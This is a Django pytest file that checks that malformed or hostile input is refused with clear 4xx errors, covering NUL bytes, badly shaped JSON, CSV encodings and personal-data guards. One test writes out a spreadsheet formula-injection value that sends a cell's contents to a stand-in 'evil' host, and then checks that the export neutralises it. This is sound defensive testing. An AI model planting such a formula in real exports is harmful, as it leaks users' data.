"""Malformed input gets a clear 4xx, never a 500."""

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from actors.roles import Role
from sites.services import site as services
from tests.factories import point_in, user_with

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin():
    return user_with(Role.LOCAL_ADMIN, "92")


@pytest.fixture
def site(admin):
    return services.declare_site(
        {"point": point_in("92012")}, acting_user=admin, confirm_nearby=True
    )


def test_api_bad_ids_and_versions(admin, site):
    api = APIClient()
    api.force_authenticate(admin)
    assert (
        api.patch("/api/v1/sites/abc/", {"version": 1}, format="json").status_code
        == 404
    )
    assert api.post("/api/v1/accessibility-points/abc/verify/").status_code == 404
    assert (
        api.patch(
            f"/api/v1/sites/{site.pk}/", {"version": "x"}, format="json"
        ).status_code
        == 400
    )
    feature = {
        "type": "Feature",
        "properties": {
            "version": 1,
            "people": 3,
            "population_date": str(timezone.localdate()),
        },
    }
    assert (
        api.patch(f"/api/v1/sites/{site.pk}/", feature, format="json").status_code
        == 200
    )


def test_page_bad_versions(client, admin, site):
    client.force_login(admin)
    response = client.post(
        f"/sites/{site.pk}/close/", {"action": "reopen", "version": "abc"}
    )
    assert response.status_code == 302


@pytest.mark.parametrize(
    "url",
    [
        "/communes/%00/",
        "/api/v1/communes/%00/parking-rules",
        "/accounts/audit/?actor=%00",
    ],
)
def test_nul_bytes_are_refused(client, admin, url):
    client.force_login(admin)
    assert client.get(url).status_code == 400


def test_csv_in_windows_1252_and_one_column_files_import_or_report(tmp_path):
    from sites.importers import read_rows

    boulogne = point_in("92012")
    latin = tmp_path / "latin.csv"
    latin.write_bytes(
        f"id;lon;lat;rue\nL1;{boulogne.x};{boulogne.y};Rue de l'Église\n".encode(
            "cp1252"
        )
    )
    rows = read_rows(latin, {"source_id": ["id"], "address": ["rue"]})
    assert rows[0].values["address"] == "Rue de l'Église" and rows[0].point is not None
    single = tmp_path / "single.csv"
    single.write_text("id\nA\nB\n")
    assert [r.point for r in read_rows(single)] == [None, None]


def test_exported_text_cannot_run_as_a_spreadsheet_formula(admin):
    services.declare_site(
        {"point": point_in("92040"), "name": '=HYPERLINK("http://evil/?"&A1,"x")'},
        acting_user=admin,
        confirm_nearby=True,
    )
    api = APIClient()
    api.force_authenticate(admin)
    text = api.get("/api/v1/sites/export/").content.decode()
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text


def test_restricted_zones_and_access_requests_go_through_the_guard():
    from django.core.exceptions import ValidationError

    from actors.models import AccessRequest
    from sites.models import RestrictedZone
    from tests.factories import territory

    commune = territory("92012")
    zone = RestrictedZone(
        name="Chez M. Dupont 06 12 34 56 78",
        rules="ok",
        commune=commune,
        geom=commune.geom,
    )
    with pytest.raises(ValidationError) as error:
        zone.full_clean()
    assert "name" in error.value.message_dict
    request = AccessRequest(
        email="a@b.fr", first_name="A", last_name="B", territory=commune, role="observer",
        reason="Mon IBAN FR76 3000 6000 0112 3456 7890 189", new_organization_name="X",
    )  # fmt: skip
    with pytest.raises(ValidationError) as error:
        request.full_clean()
    assert "reason" in error.value.message_dict


def test_anonymous_visitors_addresses_are_not_kept(client):
    from actors.models import AuditEvent

    client.post("/accounts/login/", {"username": "nobody@example.org", "password": "x"})
    assert AuditEvent.objects.get(action="login.failed").ip_address is None


def test_note_visibility_choices_are_limited_to_organizations_in_sight(admin):
    from sites.forms import NoteForm
    from tests.factories import OrganizationFactory, territory

    near = OrganizationFactory(territory=territory("92"))
    far = OrganizationFactory(territory=territory("13"))
    choices = set(NoteForm(user=admin).fields["visible_to"].queryset)
    assert near in choices and far not in choices


@pytest.mark.parametrize(
    "body",
    [
        {"type": "Feature", "properties": "x", "geometry": None},
        {"type": "Feature", "properties": {}, "geometry": "POINT(2 48)"},
        {"type": "Feature", "properties": ["x"], "geometry": None},
        "x",
        ["x"],
    ],
)
def test_a_body_of_the_wrong_shape_is_a_400_naming_the_part(body):
    from rest_framework.test import APIClient

    from actors.roles import Role
    from tests.factories import user_with

    api = APIClient()
    api.force_authenticate(user_with(Role.LOCAL_ADMIN, "92"))
    for url in ("/api/v1/sites/", "/api/v1/accessibility-points/"):
        response = api.post(url, body, format="json")
        assert response.status_code == 400, (url, response.content[:200])
